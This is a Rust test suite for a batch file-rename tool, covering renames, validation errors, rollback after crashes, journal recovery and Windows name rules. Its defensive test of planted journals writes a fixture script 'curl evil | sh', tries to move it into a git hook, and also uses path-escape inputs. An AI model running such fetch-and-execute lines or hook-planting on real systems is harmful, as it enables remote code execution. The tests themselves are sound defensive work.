use serde_json::{Value, json};

use std::io;
use std::path::Path;

use super::super::testutil::{Fixture, code};
use super::folders::temp_for;
use super::journal::{Journal, JournalItem, journal_path, write_journal};
use super::*;
use crate::error::{BatchProblemCode, Error};
use crate::fsutil::id_of;
use crate::{Access, EffectOp, ErrorCode, Mode, PathState, Scope};

fn pairs(list: &[(&str, &str)]) -> Value {
    json!({ "renames": list.iter().map(|(f, t)| json!({ "from": f, "to": t })).collect::<Vec<_>>() })
}

fn input(list: &[(&str, &str)]) -> RenameBatchInput {
    serde_json::from_value(pairs(list)).unwrap()
}

/// Every name under the root with its content (journal and temporary
/// names included, so a leftover shows).
fn state(f: &Fixture) -> Vec<(String, String)> {
    f.snapshot()
        .into_iter()
        .filter_map(|(p, c)| {
            let p = p.display().to_string().replace('\\', "/");
            c.map(|c| (p, String::from_utf8_lossy(&c).into_owned()))
        })
        .collect()
}

fn problems(e: &Error) -> Vec<(BatchProblemCode, Option<usize>)> {
    match e {
        Error::InvalidBatch { problems } => problems.iter().map(|p| (p.code, p.index)).collect(),
        other => panic!("expected invalid_batch, got {other:?}"),
    }
}

#[test]
fn plan_lists_renames_and_apply_does_them() {
    let f = Fixture::new();
    f.write("scans/Scan_0001.e57", "one");
    f.write("scans/Scan_0002.e57", "two");
    let before = f.snapshot();
    let list = [
        ("scans/Scan_0001.e57", "scans/2026-11-03_north_001.e57"),
        ("scans/Scan_0002.e57", "scans/2026-11-03_north_002.e57"),
        ("scans/Scan_0002.e57", "scans/other.e57"),
    ];
    let e = f.plan_err("rename_batch", pairs(&list));
    assert_eq!(
        problems(&e),
        [(BatchProblemCode::DuplicateSource, Some(2))],
        "{e}"
    );
    let list = &list[..2];
    let plan = f.plan("rename_batch", pairs(list));
    assert_eq!(f.snapshot(), before, "plan must not touch the disk");
    assert_eq!(plan.effects_total, 2);
    assert!(
        plan.summary.starts_with("rename 2 entries in 1 folder of "),
        "{}",
        plan.summary
    );
    assert_eq!(plan.effects[0].op, EffectOp::Move);
    assert_eq!(plan.effects[0].bytes, Some(3));
    assert!(
        plan.effects[1]
            .to
            .as_deref()
            .unwrap()
            .ends_with("2026-11-03_north_002.e57")
    );
    assert!(
        matches!(
            &plan.precondition.expect[0].state,
            PathState::Identity { size: 3, .. }
        ),
        "sources are known by identity, not hashed: {:?}",
        plan.precondition
    );
    assert_eq!(plan.precondition.expect[2].state, PathState::Absent);
    let out = f.apply("rename_batch", pairs(list), &plan).unwrap();
    assert_eq!(out["renamed"], 2);
    assert_eq!(
        state(&f),
        [
            ("scans/2026-11-03_north_001.e57".into(), "one".into()),
            ("scans/2026-11-03_north_002.e57".into(), "two".into()),
        ]
    );
}

#[test]
fn swaps_cycles_and_chains_need_no_ordering() {
    let f = Fixture::new();
    for name in ["a", "b", "c", "x", "y"] {
        f.write(name, name);
    }
    let list = [("a", "b"), ("b", "c"), ("c", "a"), ("x", "y"), ("y", "z")];
    let plan = f.plan("rename_batch", pairs(&list));
    f.apply("rename_batch", pairs(&list), &plan).unwrap();
    let expect: Vec<(String, String)> = [("a", "c"), ("b", "a"), ("c", "b"), ("y", "x"), ("z", "y")]
        .iter()
        .map(|(p, c)| (p.to_string(), c.to_string()))
        .collect();
    assert_eq!(state(&f), expect);
}

#[test]
fn case_only_and_folder_renames() {
    let f = Fixture::new();
    f.write("Scan.E57", "s");
    f.write("old/inner.txt", "i");
    let list = [("Scan.E57", "scan.e57"), ("old", "new")];
    let plan = f.plan("rename_batch", pairs(&list));
    let out = f.apply("rename_batch", pairs(&list), &plan).unwrap();
    assert_eq!(out["case_only"], 1);
    assert_eq!(
        state(&f),
        [
            ("new/inner.txt".to_string(), "i".to_string()),
            ("scan.e57".into(), "s".into())
        ]
    );
}

#[test]
fn every_problem_has_its_code_and_nothing_moves() {
    let f = Fixture::new();
    for name in ["a", "b", "c", "g", "taken", "dir/in", "file"] {
        f.write(name, name);
    }
    let before = f.snapshot();
    let list = [
        ("missing", "m2"),        // 0 source_missing
        ("a", "same"),            // 1
        ("b", "same"),            // 2 duplicate_target
        ("c", "taken"),           // 3 target_exists
        ("file", "nowhere/file"), // 4 target_folder_missing
        ("file", "file2"),        // 5 duplicate_source
        ("x", "../escaped"),      // 6 outside_scope
        ("/etc/hostname", "h"),   // 7 outside_scope
        (".", "root2"),           // 8 invalid_name
        ("dir", "dir2"),          // 9
        ("dir/in", "dir/out"),    // 10 nested
        ("g", "taken/under"),     // 11 target_folder_missing (a file, not a folder)
    ];
    let e = f.plan_err("rename_batch", pairs(&list));
    assert_eq!(code(&e), ErrorCode::InvalidBatch);
    assert_eq!(
        problems(&e),
        [
            (BatchProblemCode::SourceMissing, Some(0)),
            (BatchProblemCode::DuplicateTarget, Some(2)),
            (BatchProblemCode::TargetExists, Some(3)),
            (BatchProblemCode::TargetFolderMissing, Some(4)),
            (BatchProblemCode::DuplicateSource, Some(5)),
            (BatchProblemCode::OutsideScope, Some(6)),
            (BatchProblemCode::OutsideScope, Some(7)),
            (BatchProblemCode::InvalidName, Some(8)),
            (BatchProblemCode::Nested, Some(10)),
            (BatchProblemCode::TargetFolderMissing, Some(11)),
        ]
    );
    let message = e.to_string();
    assert!(
        message.starts_with("10 problem(s) in the batch, nothing was changed:"),
        "{message}"
    );
    assert!(message.contains("(source_missing)"), "{message}");
    let body = e.to_body();
    assert_eq!(body.code, "invalid_batch");
    let details = body.details.unwrap();
    assert_eq!(details["problems_total"], 10);
    assert_eq!(details["problems"][1]["code"], "duplicate_target");
    assert!(
        details["problems"][1]["message"]
            .as_str()
            .unwrap()
            .contains("both rename to"),
        "{details}"
    );
    assert_eq!(f.snapshot(), before);
}

#[test]
fn read_only_roots_windows_names_and_a_running_batch_are_problems() {
    let f = Fixture::with_access(Access::ReadOnly);
    f.write("a", "a");
    let e = f.plan_err("rename_batch", pairs(&[("a", "b")]));
    assert_eq!(problems(&e), [(BatchProblemCode::ReadOnly, None)]);

    let f = Fixture::new();
    for name in ["a", "b", "c", "d", "e"] {
        f.write(name, name);
    }
    let cx = Context::new(&f.scope);
    let windows = input(&[
        ("a", "CON.e57"),
        ("b", "x?.e57"),
        ("c", "trailing."),
        ("d", "fine.e57"),
    ]);
    let e = examine(&cx, &windows, true).unwrap_err();
    assert_eq!(
        problems(&e),
        [
            (BatchProblemCode::WindowsName, Some(0)),
            (BatchProblemCode::WindowsName, Some(1)),
            (BatchProblemCode::WindowsName, Some(2)),
        ]
    );
    // A journal file in the folder is anyone's: it blocks nothing.
    f.write(RENAME_JOURNAL, "{}");
    f.plan("rename_batch", pairs(&[("e", "f")]));
    // The device's own journal of an interrupted batch does.
    let (_, staged) = examine(&cx, &input(&[("e", "f")]), false).unwrap();
    run_batch(&cx, staged, &mut |_| Step::Crash).unwrap_err();
    let e = f.plan_err("rename_batch", pairs(&[("e", "f")]));
    assert_eq!(problems(&e), [(BatchProblemCode::BatchInProgress, None)]);
}

#[test]
fn two_roots_are_two_batches() {
    let one = tempfile::tempdir().unwrap();
    let two = tempfile::tempdir().unwrap();
    std::fs::write(one.path().join("a"), "a").unwrap();
    let scope = Scope::new([(one.path(), Access::ReadWrite), (two.path(), Access::ReadWrite)]).unwrap();
    let cx = Context::new(&scope);
    let to = dunce::canonicalize(two.path()).unwrap().join("a");
    let e = examine(&cx, &input(&[("a", to.to_str().unwrap())]), false).unwrap_err();
    assert_eq!(problems(&e), [(BatchProblemCode::DifferentRoot, Some(0))]);
}

#[cfg(unix)]
#[test]
fn targets_through_links_out_of_the_root_are_refused() {
    let outside = tempfile::tempdir().unwrap();
    let f = Fixture::new();
    f.write("a", "a");
    super::super::testutil::symlink(outside.path(), f.path("out"));
    let e = f.plan_err("rename_batch", pairs(&[("a", "out/a")]));
    assert_eq!(problems(&e), [(BatchProblemCode::OutsideScope, Some(0))], "{e}");
    // A parent swapped for a link out between plan and apply.
    f.write("sub/b", "b");
    let list = [("sub/b", "sub/c")];
    let plan = f.plan("rename_batch", pairs(&list));
    std::fs::rename(f.path("sub"), f.path("sub-moved")).unwrap();
    super::super::testutil::symlink(outside.path(), f.path("sub"));
    std::fs::write(outside.path().join("b"), "outside").unwrap();
    let e = f.apply("rename_batch", pairs(&list), &plan).unwrap_err();
    assert_eq!(code(&e), ErrorCode::Conflict, "{e}");
    assert_eq!(
        std::fs::read_to_string(outside.path().join("b")).unwrap(),
        "outside"
    );
    assert!(!outside.path().join("c").exists());
    assert_eq!(f.state_files(), Vec::<PathBuf>::new(), "no journal is left");
}

#[test]
fn apply_answers_conflict_naming_what_changed() {
    let f = Fixture::new();
    f.write("a", "a");
    f.write("b", "b");
    let list = [("a", "a2"), ("b", "b2")];
    let plan = f.plan("rename_batch", pairs(&list));
    f.write("b", "bigger now");
    let e = f.apply("rename_batch", pairs(&list), &plan).unwrap_err();
    assert_eq!(code(&e), ErrorCode::Conflict);
    assert!(e.to_string().contains(&f.path("b").display().to_string()), "{e}");
    let plan = f.plan("rename_batch", pairs(&list));
    f.write("a2", "in the way");
    let e = f.apply("rename_batch", pairs(&list), &plan).unwrap_err();
    assert_eq!(code(&e), ErrorCode::Conflict);
    assert!(e.to_string().contains("a2"), "{e}");
    assert!(f.exists("a") && f.exists("b"), "nothing moved");
}

/// A batch with a cycle, a chain and a folder, and its two possible ends.
type Names = Vec<(String, String)>;

fn busy_fixture() -> (Fixture, RenameBatchInput, Names, Names) {
    let f = Fixture::new();
    for name in ["a", "b", "c", "d", "dir/e"] {
        f.write(name, format!("content of {name}"));
    }
    let list = [("a", "b"), ("b", "a"), ("c", "d"), ("d", "dir/d"), ("dir/e", "f")];
    let old = state(&f);
    let new = vec![
        ("a".to_string(), "content of b".to_string()),
        ("b".into(), "content of a".into()),
        ("d".into(), "content of c".into()),
        ("dir/d".into(), "content of d".into()),
        ("f".into(), "content of dir/e".into()),
    ];
    (f, input(&list), old, new)
}

#[test]
fn a_failure_at_any_step_puts_every_name_back() {
    let steps = busy_fixture().1.renames.len() * 2;
    for fail_at in 0..steps {
        let (f, input, old, _) = busy_fixture();
        let cx = Context::new(&f.scope);
        let (_, staged) = examine(&cx, &input, false).unwrap();
        let e = run_batch(&cx, staged, &mut |step| {
            if step == fail_at {
                Step::Fail(io::Error::new(
                    io::ErrorKind::PermissionDenied,
                    "locked by another program",
                ))
            } else {
                Step::Go
            }
        })
        .unwrap_err();
        assert_eq!(code(&e), ErrorCode::BatchFailed, "step {fail_at}: {e}");
        assert!(e.to_string().contains("every name is as it was"), "{e}");
        let details = e.to_body().details.unwrap();
        // Every item that left its old name came back to it.
        let left = fail_at.min(steps / 2);
        assert_eq!(details["moved_back"], left, "step {fail_at}: {details}");
        assert_eq!(details["failed"]["code"], "permission_denied");
        assert_eq!(state(&f), old, "step {fail_at}");
    }
}

#[test]
fn a_crash_at_any_step_is_finished_or_rolled_back_on_recovery() {
    let steps = busy_fixture().1.renames.len() * 2;
    for crash_at in 0..=steps {
        let (f, input, old, new) = busy_fixture();
        let cx = Context::new(&f.scope);
        let (_, staged) = examine(&cx, &input, false).unwrap();
        let result = run_batch(&cx, staged, &mut |step| {
            if step == crash_at { Step::Crash } else { Step::Go }
        });
        if crash_at == steps {
            result.unwrap();
            assert_eq!(state(&f), new);
            assert!(recover_renames(&f.scope).is_empty(), "nothing to recover");
            continue;
        }
        assert_eq!(f.state_files().len(), 1, "the journal outlives a crash");
        assert!(!f.exists(RENAME_JOURNAL), "and is not in the folder");
        let recovered = recover_renames(&f.scope);
        assert_eq!(recovered.len(), 1);
        assert_eq!(recovered[0].items, 5);
        assert_eq!(
            recovered[0].outcome,
            RecoveryOutcome::RolledBack {
                moved_back: crash_at.min(steps / 2)
            },
            "step {crash_at}"
        );
        assert!(
            recovered[0]
                .to_string()
                .contains("every entry has its old name again")
        );
        assert_eq!(state(&f), old, "step {crash_at}");
    }
}

/// The journal a batch of `pairs` in `f` would have, as the device writes it.
fn journal_of(
    f: &Fixture,
    batch: &str,
    pairs: &[(&str, &str)],
    id_at: impl Fn(&str, &str) -> String,
) -> Journal {
    Journal {
        version: journal::JOURNAL_VERSION,
        root: f.root(),
        batch: batch.into(),
        items: pairs
            .iter()
            .enumerate()
            .map(|(n, (from, to))| JournalItem {
                from: from.into(),
                to: to.into(),
                temp: temp_for(Path::new(from), batch, n),
                id: id_at(from, to),
            })
            .collect(),
    }
}

fn id(f: &Fixture, rel: &str) -> String {
    id_of(&f.scope.roots()[0].dir().symlink_metadata(rel).unwrap())
}

fn store(f: &Fixture, journal: &Journal) -> PathBuf {
    let path = journal_path(&f.scope, &f.root(), &journal.batch).unwrap();
    write_journal(&path, journal).unwrap();
    path
}

#[test]
fn recovery_finishes_a_batch_whose_items_all_arrived() {
    let (f, input, _, new) = busy_fixture();
    let cx = Context::new(&f.scope);
    let (_, staged) = examine(&cx, &input, false).unwrap();
    run_batch(&cx, staged, &mut |_| Step::Go).unwrap();
    // Crash between the last rename and removing the journal.
    let list: Vec<(&str, &str)> = input
        .renames
        .iter()
        .map(|p| (p.from.as_str(), p.to.as_str()))
        .collect();
    store(&f, &journal_of(&f, "00c0feed", &list, |_, to| id(&f, to)));
    let recovered = recover_renames(&f.scope);
    assert_eq!(recovered[0].outcome, RecoveryOutcome::Completed);
    assert_eq!(state(&f), new);
    assert_eq!(f.state_files(), Vec::<PathBuf>::new());
    // A journal cut short by a crash while it was written never got its
    // name: its batch had not started, and it is cleared away.
    let dir = journal_path(&f.scope, &f.root(), "0badf00d").unwrap();
    std::fs::create_dir_all(dir.parent().unwrap()).unwrap();
    std::fs::write(
        dir.with_extension("partial"),
        "{\"version\":2,\"batch\":\"x\",\"it",
    )
    .unwrap();
    assert_eq!(recover_renames(&f.scope), []);
    assert_eq!(f.state_files(), Vec::<PathBuf>::new());
    assert_eq!(state(&f), new);
}

/// Journals written by someone other than the device, in the folder it
/// shares (a cloned repository, a synced folder) or in its own state
/// folder: none of them moves anything, each is reported, none blocks a
/// new batch.
#[cfg(unix)]
#[test]
fn planted_journals_move_nothing() {
    let f = Fixture::new();
    let outside = tempfile::tempdir().unwrap();
    f.write("tools/fmt.sh", "#!/bin/sh\ncurl evil | sh\n");
    f.write(".git/hooks/pre-commit.sample", "sample");
    f.write(
        ".fusion-rename-0000abcd-0",
        "looks like the device's own temporary name",
    );
    f.write(".bashrc", "mine");
    let victims = [
        ("tools/fmt.sh", ".git/hooks/post-checkout"),
        (".fusion-rename-0000abcd-0", ".bashrc"),
        (".bashrc", "../../outside"),
    ];
    // Version 1, as earlier devices wrote it, in the folder itself.
    let planted = serde_json::json!({
        "version": 1,
        "batch": "0000abcd",
        "items": victims.iter().map(|(temp, from)| serde_json::json!({
            "from": from, "to": "x", "temp": temp, "id": "0:0",
        })).collect::<Vec<_>>(),
    });
    f.write(RENAME_JOURNAL, planted.to_string());
    let before = f.snapshot();
    for recovered in [check_renames(&f.scope), recover_renames(&f.scope)] {
        assert_eq!(recovered.len(), 1, "{recovered:?}");
        assert!(
            matches!(&recovered[0].outcome, RecoveryOutcome::Ignored { journal, .. } if journal.ends_with(RENAME_JOURNAL)),
            "{recovered:?}"
        );
        assert!(
            recovered[0].to_string().contains("no file was moved"),
            "{}",
            recovered[0]
        );
    }
    assert_eq!(
        f.snapshot(),
        before,
        "nothing moved, the planted file is left alone"
    );

    // In the device's state folder, with the real file ids: temporary
    // names the device would not generate, paths that climb or are
    // absolute, another folder, a name that is not the batch's.
    let hook_id = id(&f, "tools/fmt.sh");
    let cases: Vec<(&str, Journal)> = vec![
        ("temp not generated", {
            let mut j = journal_of(&f, "0000abcd", &[(".git/hooks/post-checkout", "x")], |_, _| {
                hook_id.clone()
            });
            j.items[0].temp = "tools/fmt.sh".into();
            j
        }),
        (
            "climbs out",
            journal_of(&f, "0000abcd", &[("../outside/x", "x")], |_, _| hook_id.clone()),
        ),
        (
            "absolute",
            journal_of(
                &f,
                "0000abcd",
                &[(outside.path().join("x").to_str().unwrap(), "x")],
                |_, _| hook_id.clone(),
            ),
        ),
        ("another root", {
            let mut j = journal_of(&f, "0000abcd", &[(".bashrc", "x")], |_, _| hook_id.clone());
            j.root = outside.path().to_path_buf();
            j
        }),
        (
            "bad batch id",
            journal_of(&f, "../../x", &[(".bashrc", "x")], |_, _| hook_id.clone()),
        ),
    ];
    for (what, journal) in cases {
        let path = journal_path(&f.scope, &f.root(), "0000abcd").unwrap();
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, serde_json::to_vec(&journal).unwrap()).unwrap();
        let recovered = recover_renames(&f.scope);
        let ignored: Vec<_> = recovered
            .iter()
            .filter(|r| matches!(&r.outcome, RecoveryOutcome::Ignored { journal, .. } if *journal == path))
            .collect();
        assert_eq!(ignored.len(), 1, "{what}: {recovered:?}");
        assert_eq!(f.snapshot(), before, "{what}: nothing moved");
        assert!(path.exists(), "{what}: left alone");
        // It never blocks a new batch.
        f.plan("rename_batch", pairs(&[("tools/fmt.sh", "tools/fmt2.sh")]));
        std::fs::remove_file(&path).unwrap();
    }
    assert!(!outside.path().join("x").exists());
}

/// Files in the journals' folder that no journal the device writes could
/// be — one past the size bound, a folder, a link — are reported, not read
/// to the end or followed.
#[cfg(unix)]
#[test]
fn oversized_or_odd_journal_files_are_ignored() {
    let f = Fixture::new();
    let path = journal_path(&f.scope, &f.root(), "0000abcd").unwrap();
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let big = std::fs::File::create(&path).unwrap();
    big.set_len(journal::MAX_JOURNAL_BYTES + 1).unwrap();
    drop(big);
    let dir = path.with_file_name("0000abce.json");
    std::fs::create_dir(&dir).unwrap();
    let link = path.with_file_name("0000abcf.json");
    super::super::testutil::symlink(f.path("elsewhere"), &link);
    let reasons: Vec<String> = recover_renames(&f.scope)
        .into_iter()
        .map(|r| match r.outcome {
            RecoveryOutcome::Ignored { reason, .. } => reason,
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(reasons.len(), 3, "{reasons:?}");
    assert!(reasons[0].contains("larger than any journal"), "{reasons:?}");
    assert!(
        reasons[1..].iter().all(|r| r.contains("not a regular file")),
        "{reasons:?}"
    );
    // None of them blocks a batch.
    f.write("a", "a");
    f.plan("rename_batch", pairs(&[("a", "b")]));
}

/// A journal of the device's whose temporary name now holds another
/// file (put there after the crash) moves nothing into place.
#[test]
fn recovery_moves_only_the_entries_it_recorded() {
    let f = Fixture::new();
    f.write("a", "a");
    f.write("dir/b", "b");
    let journal = journal_of(&f, "1234abcd", &[("a", "c"), ("dir/b", "dir/d")], |from, _| {
        format!("{}-moved", id(&f, from))
    });
    // Someone else's file sits at each temporary name.
    std::fs::rename(f.path("a"), f.root().join(&journal.items[0].temp)).unwrap();
    std::fs::rename(f.path("dir/b"), f.root().join(&journal.items[1].temp)).unwrap();
    let before = f.snapshot();
    store(&f, &journal);
    let recovered = recover_renames(&f.scope);
    assert!(
        matches!(&recovered[0].outcome, RecoveryOutcome::Unresolved { stuck } if stuck.len() == 2),
        "{recovered:?}"
    );
    assert_eq!(f.snapshot(), before);
}

#[test]
fn toolbox_mode_errors_and_bounds() {
    let f = Fixture::new();
    let e = f
        .call("rename_batch", Mode::Run, pairs(&[("a", "b")]), None)
        .unwrap_err();
    assert_eq!(code(&e), ErrorCode::InvalidInput);
    let e = f.plan_err("rename_batch", json!({ "renames": [] }));
    assert!(e.to_string().contains("at least one"), "{e}");
    let many: Vec<Value> = (0..=MAX_BATCH)
        .map(|i| json!({ "from": i.to_string(), "to": "x" }))
        .collect();
    let e = f.plan_err("rename_batch", json!({ "renames": many }));
    assert!(e.to_string().contains("split it"), "{e}");
    let e = f.plan_err("rename_batch", json!({ "renames": [{ "from": "a" }] }));
    assert!(e.to_string().contains("renames[0]"), "{e}");
}

/// Windows (and Wine) volumes are case-insensitive: the new spelling
/// finds the source itself, and the rename goes through a temporary name.
#[cfg(windows)]
#[test]
fn case_only_renames_work_on_a_case_insensitive_volume() {
    let f = Fixture::new();
    f.write("Scan.E57", "s");
    let list = [("Scan.E57", "scan.e57")];
    let plan = f.plan("rename_batch", pairs(&list));
    let out = f.apply("rename_batch", pairs(&list), &plan).unwrap();
    assert_eq!(out["case_only"], 1);
    let names: Vec<_> = std::fs::read_dir(f.root())
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(names, ["scan.e57"]);
}

/// A file another program holds open without delete sharing cannot be
/// renamed on Windows: the batch stops there and undoes what it did.
#[cfg(windows)]
#[test]
fn a_file_locked_by_another_program_rolls_the_batch_back() {
    use std::os::windows::fs::OpenOptionsExt as _;
    let f = Fixture::new();
    for name in ["a", "b", "c"] {
        f.write(name, name);
    }
    let before = state(&f);
    let list = [("a", "a2"), ("b", "b2"), ("c", "c2")];
    let plan = f.plan("rename_batch", pairs(&list));
    let lock = std::fs::OpenOptions::new()
        .read(true)
        .share_mode(0)
        .open(f.path("b"))
        .unwrap();
    let e = f.apply("rename_batch", pairs(&list), &plan).unwrap_err();
    drop(lock);
    assert_eq!(code(&e), ErrorCode::BatchFailed, "{e}");
    let details = e.to_body().details.unwrap();
    assert_eq!(details["failed"]["index"], 1, "{details}");
    assert_eq!(details["moved_back"], 1, "{details}");
    assert_eq!(state(&f), before);
}

#[test]
fn windows_names() {
    for bad in [
        "CON",
        "nul.txt",
        "a:b",
        "x*",
        "q?",
        "a\"b",
        "<",
        ">",
        "|",
        "tab\there",
        "dot.",
        "space ",
    ] {
        assert!(windows_name_problem(bad).is_some(), "{bad:?}");
    }
    for good in ["2026-11-03_north_001.e57", "Scan 1.e57", "COM0", "console.las"] {
        assert_eq!(windows_name_problem(good), None, "{good:?}");
    }
}
